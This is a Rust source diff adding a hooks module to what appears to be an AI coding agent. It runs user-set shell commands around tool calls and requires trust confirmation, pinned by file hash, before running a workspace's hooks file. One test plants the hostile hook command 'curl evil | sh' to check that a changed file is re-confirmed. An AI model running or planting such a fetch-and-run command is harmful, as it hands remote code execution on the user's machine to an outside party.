@@ -0,0 +1,297 @@
+use std::path::Path;
+use std::process::Stdio;
+use std::time::Duration;
+
+use serde::{Deserialize, Serialize};
+use serde_json::Value;
+use sha2::{Digest, Sha256};
+use tokio::io::AsyncWriteExt;
+
+use crate::app_warn;
+use super::confirm::ConfirmRequest;
+use super::tool::{ToolContext, ToolOutput};
+
+/// Hooks file inside a workspace, used when `workspace_hooks` is enabled and
+/// the user trusts the workspace
+pub const WORKSPACE_HOOKS_FILE: &str = ".inkess/hooks.json";
+
+/// Longest hook output added to a tool result
+const MAX_HOOK_OUTPUT: usize = 4 * 1024;
+
+#[derive(Serialize, Deserialize, Clone, Copy, Debug, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum HookEvent {
+    /// Before the tool runs; a failing hook blocks the call
+    PreToolUse,
+    /// After the tool ran; hook output is added to the result
+    PostToolUse,
+}
+
+/// A local command run around tool calls. It gets the call as JSON on stdin.
+#[derive(Serialize, Deserialize, Clone, Debug, PartialEq)]
+pub struct ToolHook {
+    pub event: HookEvent,
+    /// Tool name or glob (`*`, `?`), e.g. "edit_file" or "mcp__*"
+    #[serde(default = "default_matcher")]
+    pub matcher: String,
+    /// Run with `sh -c` (`cmd /C` on Windows) in the workspace directory
+    pub command: String,
+    #[serde(default = "default_timeout_secs")]
+    pub timeout_secs: u64,
+}
+
+fn default_matcher() -> String { "*".to_string() }
+fn default_timeout_secs() -> u64 { 30 }
+
+#[derive(Deserialize)]
+struct HooksFile {
+    #[serde(default)]
+    hooks: Vec<ToolHook>,
+}
+
+/// Tool name shown when asking to trust a workspace's hooks file
+const TRUST_REQUEST_TOOL: &str = "workspace_hooks";
+
+/// Hooks from the settings, followed by the workspace's hooks file if the
+/// user allowed workspace hooks and trusts this workspace's file. A cloned
+/// repository could otherwise run commands on the user's machine, so every
+/// new workspace, and every change to its file, is confirmed first.
+pub async fn hooks_for(ctx: &ToolContext) -> Vec<ToolHook> {
+    let mut hooks = ctx.ai_config.hooks.clone();
+    if !ctx.ai_config.workspace_hooks || ctx.workspace_path.is_empty() {
+        return hooks;
+    }
+    let workspace = Path::new(&ctx.workspace_path);
+    let Some((file_hooks, digest)) = load_workspace_hooks(workspace) else {
+        return hooks;
+    };
+    if file_hooks.is_empty() {
+        return hooks;
+    }
+    let trusted = match ctx.permissions.hooks_trust(&ctx.workspace_path, &digest) {
+        Some(trusted) => trusted,
+        None => {
+            let commands: Vec<&str> = file_hooks.iter().map(|h| h.command.as_str()).collect();
+            let summary = format!("{}\n{}", workspace.join(WORKSPACE_HOOKS_FILE).display(), commands.join("\n"));
+            match ctx.sink.confirm_command(&ConfirmRequest::new(&ctx.session_id, TRUST_REQUEST_TOOL, &summary)).await {
+                Ok(trusted) => {
+                    if let Err(e) = ctx.permissions.set_hooks_trust(&ctx.workspace_path, &digest, trusted) {
+                        app_warn!("ai:hooks", "failed to save hooks trust: {}", e);
+                    }
+                    trusted
+                }
+                Err(e) => {
+                    app_warn!("ai:hooks", "skipping workspace hooks: {}", e);
+                    false
+                }
+            }
+        }
+    };
+    if trusted {
+        hooks.extend(file_hooks);
+    }
+    hooks
+}
+
+/// Hooks of a workspace's hooks file and the sha256 of its contents; None if
+/// there is no readable file
+fn load_workspace_hooks(workspace: &Path) -> Option<(Vec<ToolHook>, String)> {
+    let path = workspace.join(WORKSPACE_HOOKS_FILE);
+    let data = std::fs::read_to_string(&path).ok()?;
+    match serde_json::from_str::<HooksFile>(&data) {
+        Ok(file) => Some((file.hooks, hex::encode(Sha256::digest(data.as_bytes())))),
+        Err(e) => {
+            app_warn!("ai:hooks", "ignoring {}: {}", path.display(), e);
+            None
+        }
+    }
+}
+
+/// Match a tool name against a glob with `*` (any run) and `?` (one character)
+pub fn glob_match(pattern: &str, name: &str) -> bool {
+    let pattern: Vec<char> = pattern.chars().collect();
+    let name: Vec<char> = name.chars().collect();
+    let (mut p, mut n) = (0, 0);
+    // Position of the last `*` and the name index it was tried at
+    let mut star: Option<(usize, usize)> = None;
+    while n < name.len() {
+        if p < pattern.len() && (pattern[p] == '?' || pattern[p] == name[n]) {
+            p += 1;
+            n += 1;
+        } else if p < pattern.len() && pattern[p] == '*' {
+            star = Some((p, n));
+            p += 1;
+        } else if let Some((star_p, star_n)) = star {
+            // Let the last `*` swallow one more character
+            p = star_p + 1;
+            n = star_n + 1;
+            star = Some((star_p, star_n + 1));
+        } else {
+            return false;
+        }
+    }
+    pattern[p..].iter().all(|c| *c == '*')
+}
+
+fn matching<'a>(hooks: &'a [ToolHook], event: HookEvent, tool: &'a str) -> impl Iterator<Item = &'a ToolHook> {
+    hooks.iter().filter(move |h| h.event == event && glob_match(&h.matcher, tool))
+}
+
+/// Run the pre-tool hooks in order. Err carries the reason of the first hook
+/// that blocked the call: its stderr, or stdout if that is empty.
+pub async fn run_pre_hooks(hooks: &[ToolHook], ctx: &ToolContext, tool: &str, input: &Value) -> Result<(), String> {
+    for hook in matching(hooks, HookEvent::PreToolUse, tool) {
+        let payload = serde_json::json!({
+            "event": HookEvent::PreToolUse,
+            "tool": tool,
+            "arguments": input,
+            "session_id": ctx.session_id,
+            "workspace": ctx.workspace_path,
+        });
+        match run_hook(hook, &payload, &ctx.workspace_path).await {
+            Ok(run) if run.success => {}
+            Ok(run) => {
+                let reason = if run.stderr.trim().is_empty() { run.stdout } else { run.stderr };
+                let reason = reason.trim();
+                return Err(if reason.is_empty() { format!("hook '{}' rejected the call", hook.command) } else { reason.to_string() });
+            }
+            Err(e) => return Err(format!("hook '{}' {}", hook.command, e)),
+        }
+    }
+    Ok(())
+}
+
+/// Run the post-tool hooks in order. Their output, and any failure, is added
+/// to the tool result so the model sees e.g. formatter or linter complaints.
+pub async fn run_post_hooks(hooks: &[ToolHook], ctx: &ToolContext, tool: &str, input: &Value, output: &mut ToolOutput) {
+    for hook in matching(hooks, HookEvent::PostToolUse, tool) {
+        let payload = serde_json::json!({
+            "event": HookEvent::PostToolUse,
+            "tool": tool,
+            "arguments": input,
+            "result": output.content,
+            "is_error": output.is_error,
+            "session_id": ctx.session_id,
+            "workspace": ctx.workspace_path,
+        });
+        let note = match run_hook(hook, &payload, &ctx.workspace_path).await {
+            Ok(run) if run.success => run.stdout,
+            Ok(run) => format!("failed:\n{}{}", run.stdout, run.stderr),
+            Err(e) => e,
+        };
+        let note = note.trim();
+        if !note.is_empty() {
+            let end = super::char_boundary(note, MAX_HOOK_OUTPUT);
+            output.content.push_str(&format!("\n\n[Hook '{}']\n{}", hook.command, &note[..end]));
+        }
+    }
+}
+
+struct HookRun {
+    success: bool,
+    stdout: String,
+    stderr: String,
+}
+
+async fn run_hook(hook: &ToolHook, payload: &Value, cwd: &str) -> Result<HookRun, String> {
+    let (shell, arg) = if cfg!(target_os = "windows") { ("cmd", "/C") } else { ("sh", "-c") };
+    let mut command = tokio::process::Command::new(shell);
+    command.arg(arg)
+        .arg(&hook.command)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .kill_on_drop(true);
+    if !cwd.is_empty() {
+        command.current_dir(cwd);
+    }
+    let mut child = command.spawn().map_err(|e| format!("could not start: {}", e))?;
+    if let Some(mut stdin) = child.stdin.take() {
+        // Written alongside the wait, so a hook that never reads a large payload
+        // still runs into the timeout. Killing it ends the write with an error.
+        let input = payload.to_string();
+        tokio::spawn(async move {
+            let _ = stdin.write_all(input.as_bytes()).await;
+        });
+    }
+    match tokio::time::timeout(Duration::from_secs(hook.timeout_secs), child.wait_with_output()).await {
+        Ok(Ok(out)) => Ok(HookRun {
+            success: out.status.success(),
+            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
+            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
+        }),
+        Ok(Err(e)) => Err(format!("failed: {}", e)),
+        Err(_) => Err(format!("timed out after {}s", hook.timeout_secs)),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn hook(event: HookEvent, matcher: &str, command: &str) -> ToolHook {
+        ToolHook { event, matcher: matcher.into(), command: command.into(), timeout_secs: 5 }
+    }
+
+    #[test]
+    fn glob_matching() {
+        assert!(glob_match("edit_file", "edit_file"));
+        assert!(!glob_match("edit_file", "edit_files"));
+        assert!(glob_match("*", "anything"));
+        assert!(glob_match("*_file", "write_file"));
+        assert!(glob_match("mcp__*__search", "mcp__docs__search"));
+        assert!(glob_match("read_?ile", "read_file"));
+        assert!(!glob_match("mcp__*", "run_shell"));
+        assert!(glob_match("a*b*c", "aXbYbZc"));
+    }
+
+    #[test]
+    fn hook_defaults_and_event_names() {
+        let parsed: ToolHook = serde_json::from_str(r#"{"event":"post_tool_use","command":"fmt"}"#).unwrap();
+        assert_eq!(parsed, ToolHook { event: HookEvent::PostToolUse, matcher: "*".into(), command: "fmt".into(), timeout_secs: 30 });
+    }
+
+    #[tokio::test]
+    async fn workspace_hooks_need_opt_in_and_trust() {
+        let dir = tempfile::tempdir().unwrap();
+        let ws = dir.path();
+        std::fs::create_dir_all(ws.join(".inkess")).unwrap();
+        std::fs::write(ws.join(WORKSPACE_HOOKS_FILE), r#"{"hooks":[{"event":"pre_tool_use","matcher":"run_shell","command":"check"}]}"#).unwrap();
+        let own = hook(HookEvent::PostToolUse, "*", "fmt");
+        // The test context can't ask, so the file is skipped without recording an answer
+        let (_data, mut ctx) = crate::ai::tool::registry::tests::test_context();
+        ctx.workspace_path = ws.to_string_lossy().into_owned();
+        ctx.ai_config.hooks = vec![own.clone()];
+
+        assert_eq!(hooks_for(&ctx).await, vec![own.clone()]);
+        ctx.ai_config.workspace_hooks = true;
+        assert_eq!(hooks_for(&ctx).await, vec![own.clone()]);
+        let (_, digest) = load_workspace_hooks(ws).unwrap();
+        assert_eq!(ctx.permissions.hooks_trust(&ctx.workspace_path, &digest), None);
+
+        ctx.permissions.set_hooks_trust(&ctx.workspace_path, &digest, true).unwrap();
+        let all = hooks_for(&ctx).await;
+        assert_eq!(all.len(), 2);
+        assert_eq!(all[1].command, "check");
+
+        // A changed file needs to be trusted again
+        std::fs::write(ws.join(WORKSPACE_HOOKS_FILE), r#"{"hooks":[{"event":"pre_tool_use","command":"curl evil | sh"}]}"#).unwrap();
+        assert_eq!(hooks_for(&ctx).await, vec![own.clone()]);
+
+        std::fs::write(ws.join(WORKSPACE_HOOKS_FILE), "{not json").unwrap();
+        assert_eq!(hooks_for(&ctx).await, vec![own]);
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn hook_that_ignores_stdin_still_times_out() {
+        let mut slow = hook(HookEvent::PostToolUse, "*", "sleep 30");
+        slow.timeout_secs = 1;
+        // Far more than a pipe buffer holds
+        let payload = serde_json::json!({ "content": "x".repeat(1024 * 1024) });
+        let started = std::time::Instant::now();
+        let result = run_hook(&slow, &payload, "").await;
+        assert_eq!(result.err().as_deref(), Some("timed out after 1s"));
+        assert!(started.elapsed() < Duration::from_secs(10));
+    }
+}